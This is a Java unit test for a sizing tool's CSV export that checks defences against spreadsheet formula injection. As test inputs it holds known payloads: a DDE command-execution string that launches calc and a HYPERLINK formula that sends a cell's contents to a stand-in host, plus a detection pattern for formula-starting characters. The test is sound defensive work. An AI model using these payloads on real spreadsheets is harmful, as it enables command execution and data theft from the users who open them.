package io.quicksizer.workers.document;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import io.quicksizer.workers.document.ScenarioDrillDown.Line;
import io.quicksizer.workers.document.ScenarioDrillDown.SizeDays;
import io.quicksizer.workers.frozen.FrozenSizing;
import java.io.IOException;
import java.math.BigDecimal;
import java.util.List;
import java.util.regex.Pattern;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

/**
 * No text that a person typed becomes a formula in a spreadsheet, by the rules of OWASP for CSV injection. Each file is
 * read back as it is meant, and also as carelessly as a spreadsheet with other settings might: cut at any separator and
 * line break, with the quotes thrown away.
 */
class HostileCsvTest {
    private static final String CALL = "HYPERLINK(\"http://x.test?\"&A1;\"Click\")";
    private static final Pattern RUNS = Pattern.compile("[\\s\\h'\"]*[=+\\-@＝＋－＠﹦﹢﹣﹫].*", Pattern.DOTALL);
    private static final Pattern NUMBER = Pattern.compile("-?\\d+(\\.\\d+)?");

    @Test
    void an_equals_sign_starts_no_formula() throws IOException {
        assertThat(written("=" + CALL)).isEqualTo("'=" + CALL);
        assertThat(written("=cmd|' /C calc'!A0")).isEqualTo("'=cmd|' /C calc'!A0");
    }

    @Test
    void a_plus_starts_no_formula() throws IOException {
        assertThat(written("+" + CALL)).isEqualTo("'+" + CALL);
        assertThat(written("+49 30 123")).isEqualTo("'+49 30 123");
    }

    @Test
    void a_minus_starts_no_formula() throws IOException {
        assertThat(written("-2+3+cmd|' /C calc'!A0")).isEqualTo("'-2+3+cmd|' /C calc'!A0");
        assertThat(written("-5")).as("typed into a field of text").isEqualTo("'-5");
    }

    @Test
    void an_at_sign_starts_no_formula() throws IOException {
        assertThat(written("@SUM(1+9)*cmd|' /C calc'!A0")).isEqualTo("'@SUM(1+9)*cmd|' /C calc'!A0");
    }

    @Test
    void a_tab_starts_no_formula() throws IOException {
        assertThat(written("\t=1+1")).isEqualTo("'\t'=1+1");
        assertThat(written("\tharmless")).isEqualTo("'\tharmless");
    }

    @Test
    void a_carriage_return_starts_no_formula() throws IOException {
        assertThat(written("\r=1+1")).isEqualTo("'\n'=1+1");
        assertThat(written("\rharmless")).isEqualTo("'\nharmless");
    }

    @Test
    void a_line_feed_starts_no_formula() throws IOException {
        assertThat(written("\n=1+1")).isEqualTo("'\n'=1+1");
        assertThat(written("first\u2028=1+1")).isEqualTo("first\n'=1+1");
    }

    @Test
    void a_nul_starts_no_formula() throws IOException {
        assertThat(written("\0=1+1")).isEqualTo("'=1+1");
        assertThat(written("\0harmless")).isEqualTo("'harmless");
        assertThat(written("a;\0=1+1")).isEqualTo("a;'=1+1");
    }

    @Test
    void no_formula_starts_after_a_separator_whatever_the_reader_takes_for_one() throws IOException {
        for (String separator : List.of(",", ";", "|", "\t", "\n", "\r\n")) {
            written("harmless" + separator + "=" + CALL);
            written("harmless" + separator + " \"\"" + separator + " +1" + separator + "-1" + separator + "@x");
        }
        assertThat(written("first, -second; =1")).isEqualTo("first,' -second;' =1");
    }

    @Test
    void no_formula_starts_after_quotes_that_end_the_cell_too_early() throws IOException {
        assertThat(written("x\",=1+1")).isEqualTo("x\",'=1+1");
        assertThat(written("\"=1+1")).isEqualTo("'\"=1+1");
        assertThat(written("x\";\"=1+1\"")).isEqualTo("x\";'\"=1+1\"");
        assertThat(written("'=1+1")).isEqualTo("''=1+1");
        assertThat(written("“=1+1”")).isEqualTo("'“=1+1”");
    }

    @Test
    void full_width_small_and_raised_signs_start_no_formula() throws IOException {
        for (String sign : List.of("＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "⁺", "₊", "⁼", "₌", "﬩", "⩵")) {
            assertThat(written(sign + "1+1")).isEqualTo("'" + sign + "1+1");
            assertThat(written("a;" + sign + "1")).isEqualTo("a;'" + sign + "1");
        }
    }

    @Test
    void signs_that_nobody_sees_hide_no_formula() throws IOException {
        for (String unseen : List.of(
                "\u200B", "\uFEFF", "\u202E", "\u00AD", "\u061C", "\u180E", "\u3164", "\u034F", "\uDB40\uDC20")) {
            assertThat(written(unseen + "=1+1")).startsWith("'");
            assertThat(written("a;" + unseen + "=1+1")).startsWith("a;'");
        }
    }

    @Test
    void negative_numbers_stay_numbers_and_everything_but_them_is_a_text() throws IOException {
        BigDecimal change = new BigDecimal("-1234.50");
        byte[] file = PlainCsv.of(List.of("what", "change"), List.of(List.of("-1234.50", change), List.of("=A1", -7)));
        List<CSVRecord> records = parsed(file);
        assertThat(records.get(1).toList()).containsExactly("'-1234.50", "-1234.5");
        assertThat(new BigDecimal(records.get(1).get(1))).isEqualByComparingTo(change);
        assertThat(records.get(2).toList()).containsExactly("'=A1", "-7");
    }

    @Test
    void read_back_each_text_is_what_was_typed_but_for_the_apostrophes_and_what_cannot_be_seen() throws IOException {
        for (String text :
                List.of("a", "a,b;c|d", "say \"yes\"", "two\nlines", "Ünïcode – 漢字 😀", " kept blanks ", "5-1=4")) {
            assertThat(written(text)).isEqualTo(text);
        }
        for (String text : List.of("=1", "a;=1,+2", "\t-1", "\"@x\"", "- item\n- item")) {
            assertThat(written(text).replace("'", "")).isEqualTo(text);
        }
        assertThat(written("one\r\ntwo\u0007\u200B")).isEqualTo("one\ntwo");
    }

    /** What a note becomes in the proposal; on the way every file and every text in them is checked. */
    private static String written(String text) throws IOException {
        byte[] proposal = new CsvProposal(DocumentSettings.standard()).render(Proposals.saying(text));
        assertNothingRuns(proposal);
        assertNothingRuns(new ScenarioCsv(DocumentSettings.standard()).render(scenario(text), ScenarioCsv.Rows.ALL));
        assertNothingRuns(PlainCsv.of(List.of(text), List.of(List.of(text, 1))));
        return parsed(proposal).stream()
                .filter(row -> row.get(2).equals("Notes"))
                .findFirst()
                .orElseThrow()
                .get(3);
    }

    private static ScenarioDrillDown scenario(String text) {
        SizeDays days = new SizeDays(BigDecimal.ONE, BigDecimal.ONE, BigDecimal.ONE, null);
        return new ScenarioDrillDown(
                text,
                new FrozenSizing.Catalogue(1, text),
                List.of(new Line(text, text, text, days, days, false, false, text)));
    }

    private static void assertNothingRuns(byte[] file) throws IOException {
        for (CSVRecord row : parsed(file)) {
            assertThat(row.toList()).allMatch(HostileCsvTest::isHarmless);
        }
        String text = new String(file, UTF_8);
        for (String separator : List.of(",", ";", "\\|", "\t")) {
            for (String careless : text.split(separator + "|\r\n|\n|\r")) {
                assertThat(careless.replace("\"", "")).matches(HostileCsvTest::isHarmless);
            }
        }
    }

    /** Our apostrophe comes before anything else; a number may begin with its minus. */
    private static boolean isHarmless(String cell) {
        return NUMBER.matcher(cell).matches()
                || !RUNS.matcher(cell).matches()
                || cell.strip().startsWith("'");
    }

    private static List<CSVRecord> parsed(byte[] file) throws IOException {
        CSVFormat format =
                CSVFormat.RFC4180.builder().setIgnoreEmptyLines(false).get();
        try (CSVParser parser = CSVParser.parse(new String(file, UTF_8).substring(1), format)) {
            return parser.getRecords();
        }
    }
}
